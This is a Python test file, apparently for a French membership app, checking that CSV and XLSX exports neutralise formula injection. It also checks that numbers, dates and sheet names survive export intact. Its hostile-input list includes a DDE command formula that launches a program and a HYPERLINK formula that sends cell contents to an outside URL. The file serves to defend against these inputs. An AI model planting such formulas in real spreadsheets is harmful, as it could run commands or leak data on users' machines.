"""Tables leave inert: no spreadsheet computes what a member typed."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.sheets import Sheet, as_csv, as_xlsx, is_formula

HOSTILE = (
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)
WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40)


def lines(sheet: Sheet) -> list[list[str]]:
    """A CSV as a program reads it."""
    content = as_csv(sheet).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))


@pytest.mark.parametrize("words", HOSTILE)
def test_a_csv_computes_nothing(words: str) -> None:
    (title,), (cell,) = lines(Sheet("Membres", [words], [[words]]))
    assert not is_formula(cell)
    assert not is_formula(title)


@pytest.mark.parametrize("words", HOSTILE)
def test_a_workbook_computes_nothing(words: str) -> None:
    book = load_workbook(io.BytesIO(as_xlsx([Sheet("Membres", [words], [[words]])])))
    assert {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row} == {"s"}


@given(WORDS)
def test_whatever_is_typed_leaves_inert_and_whole(words: str) -> None:
    sheet = Sheet("Membres", ["Nom"], [[words, "fin"]])
    cell, end = lines(sheet)[1]
    assert not is_formula(cell) or cell.removeprefix("-").replace(",", "", 1).isdecimal()
    assert end == "fin"
    book = load_workbook(io.BytesIO(as_xlsx([sheet])))
    typed, last = book.worksheets[0][2]
    assert typed.data_type == "s" or typed.value is None
    assert last.value == "fin"


def test_numbers_and_dates_stay_what_they_are() -> None:
    noon = datetime(2026, 3, 12, 11, 0, tzinfo=UTC)
    sheet = Sheet("Chiffres", ["Nombre", "Part", "Quand", "Rien"], [[-3, -2.5, noon, None]])
    assert lines(sheet)[1] == ["-3", "-2,5", "2026-03-12 12:00", ""]
    book = load_workbook(io.BytesIO(as_xlsx([sheet])))
    kept = [cell.value for cell in book.worksheets[0][2]]
    assert kept == [-3, -2.5, datetime(2026, 3, 12, 12, 0), None]  # noqa: DTZ001 - in Paris


def test_a_sheet_may_be_called_anything() -> None:
    book = load_workbook(io.BytesIO(as_xlsx([Sheet("[Bilan] 1/2 : " + "x" * 40, ["a"], [])])))
    assert len(book.sheetnames[0]) <= 31
